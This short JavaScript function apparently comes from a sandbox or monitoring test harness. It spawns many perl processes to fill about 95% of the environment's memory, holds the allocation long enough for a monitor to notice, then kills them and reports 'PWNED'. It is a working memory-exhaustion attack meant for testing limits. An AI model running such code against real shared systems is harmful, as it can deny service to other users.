async function attack(world) {
  const share = 400;
  const count = Math.ceil(world.memoryMib / share);
  // Each says when it is full: what is in /proc of them may be hidden.
  const program = `$SIG{ALRM} = sub { exit }; alarm 30; my $n = ${share} << 20; my $x = "x" x $n; syswrite STDOUT, "."; sleep 25`;
  const children = Array.from({ length: count }, () => spawn("perl", ["-e", program], { stdio: ["ignore", "pipe", "ignore"] }));
  const full = new Set();
  for (const child of children) {
    child.stdout.once("data", () => full.add(child));
    child.once("exit", () => full.delete(child));
  }
  const wanted = world.memoryMib * 0.95;
  for (let waited = 0; full.size * share < wanted && waited < 16_000; waited += 100) await sleep(100);
  // Whoever looks twice a second must have seen it by then.
  await sleep(1500);
  const mib = full.size * share;
  for (const child of children) child.kill("SIGKILL");
  note(mib >= wanted ? `PWNED, ${mib} MiB` : `${mib} MiB`);
}
